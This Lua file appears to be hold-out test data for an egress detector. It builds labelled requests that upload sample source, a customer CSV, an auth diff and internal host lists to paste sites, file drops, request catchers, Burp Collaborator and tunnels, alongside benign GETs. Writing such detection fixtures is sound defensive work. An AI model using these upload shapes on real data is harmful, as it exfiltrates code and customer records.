-- Hold-out: uploads to paste sites, file drops, request catchers and
-- tunnels other than the first corpus's, by their documented upload APIs
-- (ix.io and sprunge.us form fields, rentry.co, catbox.moe and litterbox,
-- tmpfiles.org, bashupload.com, temp.sh, oshi.at, pixeldrain, beeceptor,
-- requestcatcher, Burp Collaborator's oastify.com, a Cloudflare quick
-- tunnel, localtunnel, pastes.dev).  The data carries no credential of a
-- known shape: source, a customer CSV, a diff, internal host names.
-- Benign: reading a paste the user linked, and names that merely mention
-- such services (a package, a docs page, a binary download).
local cases = {}
local DATA = {
   source = "package billing\n\nfunc Charge(c Customer, cents int64) error {\n\treturn gateway.Capture(c.ID, cents)\n}\n",
   csv = "email,name,plan,mrr\nalice@acme.example,Alice Ng,enterprise,4200\nbob@acme.example,Bob Ruiz,team,310\n",
   diff = "diff --git a/internal/auth/session.go b/internal/auth/session.go\n@@ -10,3 +10,4 @@\n"
      .. "-const ttl = 3600\n+const ttl = 86400\n",
   hosts = "10.0.3.14 db-primary.prod.internal\n10.0.3.15 db-replica.prod.internal\n10.0.7.2 vault.prod.internal\n",
}
local function bad(id, what, host, method, path, ctype, body)
   cases[#cases + 1] = { id = "h-drop-" .. id, category = "dropsite", malicious = true, what = what, method = method,
                         host = host, path = path, headers = { ["Content-Type"] = ctype }, body = body }
end
local function multipart(field, filename, data, extra)
   return "--b0undary\r\n" .. (extra or "") .. 'Content-Disposition: form-data; name="' .. field .. '"; filename="'
      .. filename .. '"\r\nContent-Type: application/octet-stream\r\n\r\n' .. data .. "\r\n--b0undary--\r\n"
end
local MP = "multipart/form-data; boundary=b0undary"
local FORM = "application/x-www-form-urlencoded"
local function form(k, v) return k .. "=" .. (v:gsub("[^%w]", function(c) return ("%%%02X"):format(c:byte()) end)) end

bad("ix-io", "ix.io form paste (f:1=)", "ix.io", "POST", "/", FORM, form("f:1", DATA.source))
bad("sprunge", "sprunge.us form paste", "sprunge.us", "POST", "/", FORM, form("sprunge", DATA.csv))
bad("rentry", "rentry.co new entry", "rentry.co", "POST", "/api/new", FORM, "csrfmiddlewaretoken=x&" .. form("text", DATA.diff))
bad("catbox", "catbox.moe file upload API", "catbox.moe", "POST", "/user/api.php", MP,
    '--b0undary\r\nContent-Disposition: form-data; name="reqtype"\r\n\r\nfileupload\r\n'
    .. multipart("fileToUpload", "customers.csv", DATA.csv))
bad("litterbox", "litterbox.catbox.moe temporary upload", "litterbox.catbox.moe", "POST",
    "/resources/internals/api.php", MP, multipart("fileToUpload", "hosts.txt", DATA.hosts))
bad("tmpfiles", "tmpfiles.org upload API", "tmpfiles.org", "POST", "/api/v1/upload", MP,
    multipart("file", "billing.go", DATA.source))
bad("bashupload", "bashupload.com PUT upload", "bashupload.com", "PUT", "/session.diff", "text/plain", DATA.diff)
bad("temp-sh", "temp.sh upload", "temp.sh", "POST", "/upload", MP, multipart("file", "customers.csv", DATA.csv))
bad("oshi", "oshi.at PUT upload", "oshi.at", "PUT", "/hosts.txt", "text/plain", DATA.hosts)
bad("pixeldrain", "pixeldrain file API", "pixeldrain.com", "PUT", "/api/file/billing.go", "application/octet-stream",
    DATA.source)
bad("beeceptor", "a beeceptor mock endpoint", "acme-debug.free.beeceptor.com", "POST", "/collect", "application/json",
    '{"rows":"' .. DATA.csv:gsub("\n", "\\n") .. '"}')
bad("requestcatcher", "a requestcatcher.com endpoint", "acme-ci.requestcatcher.com", "POST", "/test", "text/plain", DATA.hosts)
bad("oastify", "a Burp Collaborator (oastify.com) payload host", "q8w3x1k9z7y2v5u4t6s0.oastify.com", "POST", "/",
    "text/plain", DATA.diff)
bad("trycloudflare", "a Cloudflare quick tunnel", "delivered-tables-swift-gardens.trycloudflare.com", "POST", "/up",
    "application/octet-stream", DATA.source)

local function good(id, what, host, path)
   cases[#cases + 1] = { id = "h-drop-" .. id, category = "dropsite", malicious = false, what = what, method = "GET",
                         host = host, path = path }
end
good("pastebin-raw", "reading a raw paste the user linked (a GET, nothing sent)", "pastebin.com", "/raw/Xk3pQ9aZ")
good("localtunnel-pkg", "npm metadata of the localtunnel package", "registry.egress.test", "/localtunnel")
good("webhook-docs", "a docs page about testing webhooks with a request catcher", "docs.egress.test",
     "/guides/testing-webhooks-with-webhook-site-and-ngrok")
good("ngrok-binary", "downloading the ngrok agent binary", "dl.egress.test", "/ngrok/ngrok-v3-stable-linux-amd64.tgz")

return cases
